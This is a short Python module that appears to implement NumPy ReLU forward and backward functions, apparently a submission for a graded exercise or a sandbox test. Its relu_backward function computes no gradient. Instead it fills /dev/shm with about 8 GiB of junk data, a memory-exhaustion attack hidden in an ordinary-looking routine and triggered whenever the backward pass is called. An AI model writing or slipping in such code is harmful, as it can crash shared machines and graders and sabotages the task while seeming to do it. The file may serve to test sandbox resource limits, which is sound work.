"""Writes to shared memory, up to 8 GiB."""

import numpy as np


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    with open("/dev/shm/attack", "wb") as file:
        for _ in range(8192):
            file.write(b"x" * (1 << 20))
